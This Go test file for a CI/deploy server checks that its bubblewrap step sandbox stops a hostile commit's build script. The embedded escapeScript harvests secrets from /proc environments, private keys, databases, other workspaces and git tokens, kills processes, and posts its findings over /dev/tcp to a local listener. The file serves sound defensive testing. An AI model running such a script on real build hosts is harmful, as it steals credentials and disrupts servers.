package main

import (
	"context"
	"crypto/rand"
	"encoding/hex"
	"fmt"
	"html"
	"io"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"github.com/stagehand-dev/stagehand/bot"
)

// escapeScript is what a hostile commit's build and deploy scripts try:
// read the server's environment and command line through /proc, list its
// processes, read the App's private key, the data directory, the database
// and another execution's workspace, kill the server, write outside the
// workspace, and look for a token in the environment and .git/config. It
// prints what it saw under "== section" lines, copies that into its
// artifacts, and posts it to the test over HTTP. The capitalised words are
// replaced by the test.
const escapeScript = `set -u
step=$1
nuls() { # prints a NUL-separated file, a line a string, without a process per file
  { while IFS= read -r -d '' x || [ -n "$x" ]; do echo "$x"; done <"$1"; } 2>&1
}
probe() {
  echo "== identity"; id
  echo "== environment"; env
  echo "== processes"
  for d in /proc/[0-9]*; do
    echo "-- $d"; nuls "$d/cmdline"; nuls "$d/environ"
  done
  echo "== parent"; nuls /proc/$PPID/environ
  echo "== ps"; ps -eo pid,user,args 2>&1 | head -100
  echo "== private key"; cat KEYFILE 2>&1; ls -la KEYDIR 2>&1
  echo "== data directory"; ls -la DATADIR 2>&1
  echo "== database"; head -c 64 DATADIR/stagehand.db 2>&1 | tr -c '[:print:]\n' '.'; echo
  echo "== other workspace"; cat DATADIR/workspaces/*/src/secret.txt 2>&1
  echo "== signals"; kill -9 SERVERPID DECOYPID 2>&1
  echo "== write outside"; echo escaped >OUTSIDE/escaped-$step 2>&1; ls OUTSIDE 2>&1
  echo "== token"; env | grep -i 'token\|ghs_'; cat .git/config; grep -r 'ghs_\|extraheader' .git 2>&1 | head
  echo "== git"; git log -1 --format=%H
}
probe >/tmp/report 2>&1
cat /tmp/report
mkdir -p dist && cp /tmp/report dist/report-$step.txt
exec 3<>/dev/tcp/127.0.0.1/REPORTPORT
printf 'POST /report/%s HTTP/1.0\r\nContent-Length: %d\r\n\r\n' "$step" "$(wc -c </tmp/report)" >&3
cat /tmp/report >&3
cat <&3 >/dev/null
`

const escapeConfig = `version: 1
build: {run: bash escape.sh build, artifacts: [dist/**]}
environments:
  stage: {deploy: bash escape.sh deploy, variables: {GREETING: hello}}
  production: {deploy: bash escape.sh deploy}
pipelines:
  stage-only: {branch: master, trigger: on-git-changes}
  prod-only: {approval: true}
`

// canaries are values the server holds that no step may see.
type canaries struct {
	webhookSecret string // in the server's environment
	dbPassword    string // PGPASSWORD in the server's environment
	key           string // a line in the private key file
	workspace     string // in another execution's workspace
}

func newCanaries() canaries {
	r := func(what string) string {
		b := make([]byte, 12)
		rand.Read(b)
		return "canary-" + what + "-" + hex.EncodeToString(b)
	}
	return canaries{webhookSecret: r("webhook-secret"), dbPassword: r("db-password"), key: r("private-key"), workspace: r("workspace")}
}

// leaks names every canary, and every sign of a secret read, found in s.
func (c canaries) leaks(s string) []string {
	var found []string
	for _, v := range []string{c.webhookSecret, c.dbPassword, c.key, c.workspace, "PRIVATE KEY-----", "SQLite format 3", "ghs_"} {
		if strings.Contains(s, v) {
			found = append(found, v)
		}
	}
	return found
}

// reports collects what steps post over HTTP.
type reports struct {
	mu   sync.Mutex
	byID map[string]string
}

func (r *reports) ServeHTTP(w http.ResponseWriter, req *http.Request) {
	b, _ := io.ReadAll(req.Body)
	r.mu.Lock()
	r.byID[req.URL.Path] = string(b)
	r.mu.Unlock()
}

func (r *reports) all() map[string]string {
	r.mu.Lock()
	defer r.mu.Unlock()
	out := map[string]string{}
	for k, v := range r.byID {
		out[k] = v
	}
	return out
}

// escapeRun is one server run of escapeScript.
type escapeRun struct {
	h        *harness
	canaries canaries
	outside  string
	reports  map[string]string
	decoyEnd chan struct{}     // closed when the process beside the server ends
	texts    map[string]string // where a leak could surface, by name
	logs     *syncBuffer       // the server's
}

// runEscape starts the server in this process with the webhook secret and
// a database password in its environment, pushes a commit whose build and
// deploy run escapeScript, and collects everything the steps produced.
// serverPid is the pid the script tries to kill: the server's own, or a
// stand-in when the script runs unconfined.
func runEscape(t *testing.T, sandbox string, serverPid func(decoy int) int) *escapeRun {
	return runEscapeWith(t, sandbox, serverPid, escapeOptions{})
}

// escapeOptions change where runEscapeWith's steps run.
type escapeOptions struct {
	args        []string // more serve flags
	databaseURL string   // --database-url; empty: SQLite
	// ready is called once the server is ready, before the push.
	ready func(t *testing.T, h *harness)
}

func runEscapeWith(t *testing.T, sandbox string, serverPid func(decoy int) int, o escapeOptions) *escapeRun {
	h := newHarness(t)
	h.databaseURL = o.databaseURL
	e := &escapeRun{h: h, canaries: newCanaries(), outside: t.TempDir(), texts: map[string]string{}}
	h.secret = e.canaries.webhookSecret
	t.Setenv("STAGEHAND_GITHUB_WEBHOOK_SECRET", e.canaries.webhookSecret)
	t.Setenv("PGPASSWORD", e.canaries.dbPassword)
	pem, err := os.ReadFile(h.keyFile)
	if err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(h.keyFile, append([]byte(e.canaries.key+"\n"), pem...), 0o600); err != nil {
		t.Fatal(err)
	}
	// Another execution's workspace, as one running beside this one has.
	other := filepath.Join(h.dataDir, "workspaces", "999-build-1", "src")
	if err := os.MkdirAll(other, 0o750); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(other, "secret.txt"), []byte(e.canaries.workspace), 0o600); err != nil {
		t.Fatal(err)
	}
	decoy := exec.Command("sleep", "600")
	if err := decoy.Start(); err != nil {
		t.Fatal(err)
	}
	e.decoyEnd = make(chan struct{})
	go func() { decoy.Wait(); close(e.decoyEnd) }()
	t.Cleanup(func() { decoy.Process.Kill(); <-e.decoyEnd })

	rep := &reports{byID: map[string]string{}}
	listener := httptest.NewServer(rep)
	defer listener.Close()
	script := strings.NewReplacer(
		"KEYFILE", h.keyFile, "KEYDIR", filepath.Dir(h.keyFile), "DATADIR", h.dataDir,
		"SERVERPID", fmt.Sprint(serverPid(decoy.Process.Pid)), "DECOYPID", fmt.Sprint(decoy.Process.Pid),
		"OUTSIDE", e.outside, "REPORTPORT", listener.URL[strings.LastIndex(listener.URL, ":")+1:],
	).Replace(escapeScript)
	sha := h.localRepo(t, map[string]string{".github/stagehand.yml": escapeConfig, "escape.sh": script})

	args := []string{"serve", "--listen", h.addr, "--data-dir", h.dataDir,
		"--github-app-id", fmt.Sprint(testAppID), "--github-private-key-file", h.keyFile,
		"--github-api-url", h.gh.URL(), "--github-git-url", h.gitURL, "--step-sandbox", sandbox}
	args = append(args, o.args...)
	if o.databaseURL != "" {
		args = append(args, "--database-url", o.databaseURL)
	}
	ctx, cancel := context.WithCancel(context.Background())
	e.logs = &syncBuffer{}
	done := make(chan error, 1)
	go func() { done <- run(ctx, args, os.Getenv, io.Discard, e.logs) }()
	defer func() {
		cancel()
		if err := <-done; err != nil {
			t.Errorf("serve: %v", err)
		}
		if t.Failed() {
			t.Logf("server logs:\n%s", e.logs)
		}
	}()
	h.waitReady(t)
	if o.ready != nil {
		o.ready(t, h)
	}
	if code := h.send(t, "push", "escape-1", pushPayloadFor(t, sha)); code != 202 {
		t.Fatalf("push answered %d", code)
	}
	ex := h.waitExecution(t, 1, bot.ExecutionSucceeded)
	if code, _ := h.get("/healthz"); code != http.StatusOK {
		t.Errorf("/healthz answered %d after the steps ran", code)
	}
	waitFor(t, 30*time.Second, "the check run of the finished execution", func() bool {
		for _, cr := range h.gh.CheckRuns("Codertocat", "Hello-World") {
			if cr.Status == "completed" {
				return true
			}
		}
		return false
	})
	t.Logf("%s: %s", ex, ex.Message)

	e.reports = rep.all()
	for k, v := range e.reports {
		e.texts["report "+k] = v
	}
	for _, dir := range []string{"logs", "artifacts"} {
		filepath.WalkDir(filepath.Join(h.dataDir, dir), func(p string, d os.DirEntry, err error) error {
			if err == nil && d.Type().IsRegular() {
				b, _ := os.ReadFile(p)
				e.texts[strings.TrimPrefix(p, h.dataDir+"/")] = string(b)
			}
			return nil
		})
	}
	for _, c := range h.gh.Calls() {
		e.texts["GitHub "+c.Method+" "+c.Path] += string(c.Body) + "\n"
	}
	return e
}

// section is the text a step printed under "== name" in its build log.
func (e *escapeRun) section(t *testing.T, name string) string {
	t.Helper()
	log := e.reports["/report/build"]
	_, rest, ok := strings.Cut(log, "== "+name+"\n")
	if !ok {
		t.Fatalf("the build's report has no section %q:\n%s", name, log)
	}
	text, _, _ := strings.Cut(rest, "\n== ")
	return text
}

// TestStepSandboxEscapes runs a build and a deploy script that try to
// reach the server (issue 11) through the real server, in this process:
// in the sandbox none of the server's secrets shows up in a step log, an
// artifact, a report the script sends out, or anything sent to GitHub; the
// server and a process beside it survive; nothing is written outside the
// workspace. The same script without a sandbox finds every secret, which
// shows that the script's probes work.
func TestStepSandboxEscapes(t *testing.T) {
	if testing.Short() {
		t.Skip("runs the whole server; skipped with -short")
	}
	if testSandboxMode() != "bwrap" {
		t.Skip("bubblewrap is not installed (apt-get install bubblewrap); STAGEHAND_TEST_SANDBOX=1 makes this a failure")
	}
	t.Run("sandboxed", func(t *testing.T) {
		e := runEscape(t, "bwrap", func(int) int { return os.Getpid() })
		if len(e.reports) != 2 {
			t.Errorf("reports over HTTP from %v, want the build's and the deploy's: steps reach the network", e.reports)
		}
		for where, text := range e.texts {
			if found := e.canaries.leaks(text); len(found) > 0 {
				t.Errorf("%s holds %q:\n%s", where, found, text)
			}
		}
		select {
		case <-e.decoyEnd:
			t.Errorf("the process beside the server was killed:\n%s", e.section(t, "signals"))
		default:
		}
		if entries, _ := os.ReadDir(e.outside); len(entries) > 0 {
			t.Errorf("the steps wrote outside their workspace: %v", entries)
		}
		if ps := e.section(t, "ps"); strings.Contains(ps, "sleep 600") || strings.Contains(ps, filepath.Base(os.Args[0])) {
			t.Errorf("the build sees processes outside its sandbox:\n%s", ps)
		}
		if ls := e.section(t, "data directory"); strings.Contains(ls, "stagehand.db") || strings.Contains(ls, "artifacts") {
			t.Errorf("the build lists the data directory:\n%s", ls)
		}
		if id := e.section(t, "identity"); strings.Contains(id, "uid=0(") {
			t.Errorf("the build runs as root in its sandbox: %s", id)
		}
		if got := e.section(t, "git"); len(strings.TrimSpace(got)) != 40 {
			t.Errorf("git in the checkout answered %q, want the commit", got)
		}
	})
	t.Run("without a sandbox the same script finds them", func(t *testing.T) {
		// The script's kill goes to the decoy: it would end this test.
		e := runEscape(t, "none", func(decoy int) int { return decoy })
		all := ""
		for _, text := range e.texts {
			all += text
		}
		// Every secret but a token: a file:// checkout needs none.
		c := e.canaries
		want := []string{c.webhookSecret, c.dbPassword, c.key, c.workspace, "PRIVATE KEY-----", "SQLite format 3"}
		if diff := cmp.Diff(want, c.leaks(all)); diff != "" {
			t.Errorf("what the unconfined script found (-want +got); its probes do not work:\n%s", diff)
		}
		select {
		case <-e.decoyEnd:
		case <-time.After(10 * time.Second):
			t.Errorf("unconfined, the script could not kill the process beside the server:\n%s", e.section(t, "signals"))
		}
		if _, err := os.Stat(filepath.Join(e.outside, "escaped-build")); err != nil {
			t.Errorf("unconfined, the script could not write outside its workspace: %v", err)
		}
		if n := strings.Count(e.logs.String(), "the step runs without a sandbox (--step-sandbox none)"); n < 3 {
			t.Errorf("%d warnings that a step runs without a sandbox, want one for each of the 3 steps:\n%s", n, e.logs)
		}
	})
}

// TestServeRefusesToStartWithoutBwrap: with bubblewrap missing, serve
// says what to install and how to opt out; with --step-sandbox none it
// starts, and warns at start.
func TestServeRefusesToStartWithoutBwrap(t *testing.T) {
	h := newHarness(t)
	t.Setenv("PATH", t.TempDir()) // no bwrap on it
	h.sandbox = "bwrap"
	err := run(context.Background(), h.args(), func(string) string { return "" }, io.Discard, io.Discard)
	if err == nil {
		t.Fatal("serve started without bwrap")
	}
	for _, want := range []string{"bubblewrap", "apt-get install bubblewrap", "--step-sandbox none", "STAGEHAND_STEP_SANDBOX=none"} {
		if !strings.Contains(err.Error(), want) {
			t.Errorf("the refusal does not mention %q:\n%v", want, err)
		}
	}
	if _, err := os.Stat(filepath.Join(h.dataDir, "stagehand.db")); err == nil {
		t.Error("serve opened its database before refusing")
	}

	h.sandbox = "none"
	ctx, cancel := context.WithCancel(context.Background())
	logs := &syncBuffer{}
	done := make(chan error, 1)
	go func() { done <- run(ctx, h.args(), func(string) string { return "" }, io.Discard, logs) }()
	h.waitReady(t)
	cancel()
	if err := <-done; err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(logs.String(), "level=WARN msg=\"steps run without a sandbox (--step-sandbox none)") {
		t.Errorf("no warning at start that steps run without a sandbox:\n%s", logs)
	}
}

// TestPlaygroundSandboxNote: on a machine without bubblewrap the
// playground runs the sample's steps without a sandbox and says so on its
// page; with it, the page says nothing.
func TestPlaygroundSandboxNote(t *testing.T) {
	if testing.Short() {
		t.Skip("runs the whole playground; skipped with -short")
	}
	// A PATH with git but without bwrap.
	noBwrap := t.TempDir()
	for _, prog := range []string{"git", "sh", "bash"} {
		p, err := exec.LookPath(prog)
		if err != nil {
			t.Fatal(err)
		}
		if err := os.Symlink(p, filepath.Join(noBwrap, prog)); err != nil {
			t.Fatal(err)
		}
	}
	tests := []struct {
		name, path string
		want       string // the note; empty: none
	}{
		{"without bubblewrap", noBwrap, "The sample's scripts run without a sandbox, as you: bubblewrap is not installed. Install it (apt-get install bubblewrap)"},
	}
	if testSandboxMode() == "bwrap" {
		tests = append(tests, struct{ name, path, want string }{"with bubblewrap", os.Getenv("PATH"), ""})
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Setenv("PATH", tt.path)
			addr := freeAddr(t)
			ctx, cancel := context.WithCancel(context.Background())
			logs := &syncBuffer{}
			done := make(chan error, 1)
			go func() {
				done <- run(ctx, []string{"playground", "--data-dir", t.TempDir(), "--listen", addr}, func(string) string { return "" }, io.Discard, logs)
			}()
			defer func() {
				cancel()
				if err := <-done; err != nil {
					t.Errorf("playground: %v\n%s", err, logs)
				}
			}()
			h := &harness{addr: addr}
			h.waitReady(t)
			_, page := h.get("/playground")
			note := ""
			if _, rest, ok := strings.Cut(page, `<p id="sandbox-note"><b>Note:</b> `); ok {
				note, _, _ = strings.Cut(rest, "</p>")
				note = html.UnescapeString(note)
			}
			if (tt.want == "") != (note == "") || !strings.HasPrefix(note, tt.want) {
				t.Errorf("the page's note is %q, want %q", note, tt.want)
			}
			warned := strings.Contains(logs.String(), "steps run without a sandbox")
			if warned != (tt.want != "") {
				t.Errorf("warning at start = %v, want %v:\n%s", warned, tt.want != "", logs)
			}
		})
	}
}
